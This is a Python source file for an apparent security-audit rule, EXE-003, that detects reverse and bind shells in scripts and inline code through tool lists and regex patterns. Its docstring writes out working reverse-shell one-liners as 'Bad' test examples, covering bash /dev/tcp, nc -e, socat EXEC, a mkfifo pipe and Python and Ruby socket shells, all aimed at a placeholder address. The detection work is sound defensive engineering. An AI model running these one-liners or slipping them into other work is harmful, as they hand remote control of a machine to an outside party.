"""Shells that are handed to somebody on the net."""

from collections.abc import Iterator
from functools import cache
from re import Pattern
from re import compile as pattern

from ccmcp.audit.call import Scene
from ccmcp.audit.hosts import is_local
from ccmcp.audit.rule import Hit, rule
from ccmcp.audit.shell.command import Command, Script
from ccmcp.audit.shell.interpreters import SHELLS

_SOCKETS = frozenset({
    "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "telnet", "socat", "openssl", "gnutls-cli",
    "pwncat", "rcat", "rustcat", "websocat", "cryptcat",
})  # fmt: skip
_MAKERS = frozenset({"msfvenom", "msfconsole", "pwncat-cs", "villain", "weevely", "evil-winrm"})


@rule(
    id="EXE-003",
    title="Reverse or bind shell",
    severity="critical",
    category="execution",
    matches="nc -e, socat EXEC, a shell whose input or output is /dev/tcp or a pipe to nc, sockets with dup2 or a shell in inline code",
    false_positives="/dev/tcp alone is a port probe and left alone.",
    advice="Find out where it led, end the process, and treat the machine as compromised.",
    permission="Bash(nc:*)",
    on=Script,
    attack=("T1059.004", "T1095"),
    owasp=("ASI05",),
    auto_mode=("Expose Local Services", "External Ingress Tunnel"),
)
def reverse_shell(script: Script, scene: Scene) -> Iterator[Hit]:
    """
    A shell whose commands come from the net.

    Bad:
        bash -i >& /dev/tcp/192.0.2.7/4444 0>&1          # critical
        nc -e /bin/sh 192.0.2.7 4444                     # critical
        nc -lvp 4444 -e /bin/bash                        # critical
        mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 44 > /tmp/f  # critical
        socat TCP:192.0.2.7:4444 EXEC:/bin/sh            # critical
        exec 5<>/dev/tcp/192.0.2.7/44; sh <&5 >&5 2>&5   # critical
        nc 192.0.2.7 4444 | bash                         # critical
        python3 -c "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.7',44));os.dup2(s.fileno(),0);pty.spawn('sh')"  # critical
        ruby -rsocket -e "exec '/bin/sh -i <&3 >&3 2>&3' if TCPSocket.new('192.0.2.7', 44)"  # critical
    Fine:
        timeout 1 bash -c "</dev/tcp/localhost/5432"
        (echo > /dev/tcp/db/5432) 2>/dev/null && echo up
        nc -zv localhost 8080
        python3 -c "import socket; s = socket.create_connection(('localhost', 80)); print(s)"
        echo "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"
    """
    _ = scene
    for command in script.commands:
        yield from _one(command)
    for pipeline in script.pipelines:
        yield from _piped(pipeline)
    if "/dev/tcp/" in script.text or "/dev/udp/" in script.text:
        yield from _descriptor(script)
    for code in script.code:
        if code.language in _CODE and _socket().search(code.text) and _code(code.language).search(code.text):
            yield Hit(target=f"{code.language} code", note="a socket and a shell")


def _one(command: Command) -> Iterator[Hit]:
    name = command.name
    if name in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat"):
        given = command.value("-e", "--exec", "--sh-exec", "--lua-exec")
        if given is None:
            given = next(
                (
                    command.args[at + 1]
                    for at, word in enumerate(command.args[:-1])
                    if word[:1] == "-" and word[1:2] != "-" and word[-1:] in ("e", "c") and len(word) > 1
                ),
                None,
            )
        if given and (
            given.rpartition("/")[2].partition(" ")[0] in SHELLS
            or "/" in given
            or " " in given
            or given.endswith("cmd.exe")
        ):
            yield Hit(target=_address(command), note=f"{name} hands out {given.split()[0]}")
    elif name == "socat":
        words = [word.lower() for word in command.operands()]
        runs = any(word.startswith(("exec:", "system:", "shell:")) for word in words)
        if runs and any(
            word.startswith(("tcp", "udp", "openssl", "ssl", "sctp", "vsock", "proxy", "socks"))
            for word in words
        ):
            yield Hit(target=_address(command), note="socat runs a program for a connection")
    elif name in SHELLS:
        for redirect in command.redirects:
            if redirect.target.startswith(("/dev/tcp/", "/dev/udp/")) and _listens(command):
                yield Hit(target=redirect.target[9:], note="a shell on /dev/tcp")
                return
    elif (
        name == "xterm"
        and (given := command.value("-display"))
        and ":" in given
        and not given.startswith(":")
        and not is_local(given.partition(":")[0])
    ):
        yield Hit(target=str(given), note="a terminal shown elsewhere")
    elif name in _MAKERS:
        yield Hit(target=name, severity="high", note="makes or serves reverse shells")
    elif name in ("zsh", "ztcp") and "ztcp" in command.text:
        yield Hit(target=_address(command), severity="high", note="zsh's sockets")
    elif name in ("vim", "vi", "rvim", "gdb") and any(
        "socket" in word and "dup2" in word for word in command.args
    ):
        yield Hit(target=name, note="a socket and a shell")


def _address(command: Command) -> str:
    words = [
        word for word in command.operands(frozenset({"-e", "-c", "--exec", "--sh-exec", "-p", "-s"})) if word
    ]
    return ":".join(words[:2])[:80] or "a listener"


def _piped(pipeline: tuple[Command, ...]) -> Iterator[Hit]:
    """A shell in a pipeline with a program that reads and writes a socket."""
    for at, command in enumerate(pipeline):
        if (
            command.name in _SOCKETS
            and not (command.name == "openssl" and "s_client" not in command.args)
            and not command.has("-z")
        ):
            before, after = pipeline[:at], pipeline[at + 1 :]
            if any(_listens(each) for each in after) or any(
                _listens(each) and _open_ended(each, before) for each in before
            ):
                yield Hit(target=_address(command), note=f"a shell that reads or writes {command.name}")
                return


def _listens(command: Command) -> bool:
    """Whether it is a shell that takes commands from its input."""
    if command.name not in SHELLS:
        return False
    return not any(
        word == "-c"
        or (word[:1] != "-" and not word.isdigit())
        or (word[:1] == "-" and word[1:2] != "-" and "c" in word)
        for word in command.args
    )


def _open_ended(shell: Command, before: tuple[Command, ...]) -> bool:
    """Whether a shell before a socket gets its commands from a pipe or terminal rather than from a text."""
    return not shell.heredoc and (
        shell.has("-i")
        or not shell.reads
        or any(each.name in ("cat", "tail", "nc", "telnet", "socat", "openssl", "ncat") for each in before)
    )


def _descriptor(script: Script) -> Iterator[Hit]:
    """A descriptor opened on /dev/tcp that a shell, or what it reads, then uses."""
    found = _opened().search(script.text)
    if not found or not any(_holds(command, found[0]) for command in script.commands):
        return
    number = found[1] or found[2] or found[3] or ""
    rest = script.text
    if not number:
        return
    uses = pattern(
        rf"(?:\b(?:ba|z|da|k|a)?sh\b(?:\s+-\w+)*|\$\{{?\w+\}}?|\beval\b[^\n;|]*|\$\([^)]*\))\s*(?:[012]?[<>]&\s*{number}|[012]?>\s*&\s*{number})"
    )
    if uses.search(rest) or (
        f"<&{number}" in rest
        and pattern(r"\bwhile\b.*\bread\b").search(rest)
        and pattern(r"\bdo\b\s*(?:\$|eval|bash|sh)").search(rest)
    ):
        yield Hit(target=found["address"], note="a shell on a descriptor of /dev/tcp")


def _holds(command: Command, text: str) -> bool:
    return command.name not in ("echo", "printf", "git", "grep", "rg") and (text in command.text)


_CODE = frozenset({"python", "perl", "ruby", "php", "node", "lua", "awk"})


@cache
def _opened() -> Pattern[str]:
    return pattern(
        r"(?:exec\s+(?:(\d+)|\{(\w+)\})?\s*[<>]{1,2}|(\d+)<>)\s*/dev/(?:tcp|udp)/(?P<address>[^\s;|&)]+)"
    )


@cache
def _socket() -> Pattern[str]:
    return pattern(r"socket|Socket|fsockopen|\bnet\b|/inet/|stream_socket")


_SHELL_WORD = r"/bin/(?:ba|z|da|k|a)?sh|['\"](?:ba|z|da)?sh(?:\.exe)?(?: -i)?['\"]|cmd\.exe|powershell"


@cache
def _code(tongue: str) -> Pattern[str]:
    return pattern(
        {
            "python": rf"(?s)\bdup2\b|pty\.spawn|(?:subprocess|os\.popen|os\.system|Popen)(?:.*?)(?:{_SHELL_WORD}|recv\()|recv\([^)]*\).*?(?:subprocess|os\.popen|os\.system|exec\()",
            "perl": rf"(?s)(?:exec|system|open\()[^;]*(?:{_SHELL_WORD})|open\(STD(?:IN|OUT).*?exec|STDIN->fdopen.*system",
            "ruby": rf"(?s)(?:exec|spawn|popen|system)[^;]*(?:{_SHELL_WORD}|&\d)|IO\.popen\(\s*(?:cmd|c|l|line|s\.gets)|\.gets.*(?:IO\.popen|`)|\$stdin\.reopen",
            "php": rf"(?s)(?:exec|shell_exec|proc_open|popen|system|passthru|`)[^;]*(?:{_SHELL_WORD}|&3)",
            "node": rf"(?s)(?:spawn|exec|execFile|fork)\s*\(\s*(?:{_SHELL_WORD}).*(?:pipe\(|connect)|(?:connect|Socket).*(?:spawn|exec)\s*\(\s*(?:{_SHELL_WORD})|\.pipe\(\s*\w+\.stdin",
            "lua": rf"(?s)os\.execute\([^)]*(?:{_SHELL_WORD}|&3)|io\.popen\(\s*\w+",
            "awk": r"(?s)/inet/(?:tcp|udp)/.*getline|getline.*/inet/",
        }.get(tongue, r"(?!)")
    )
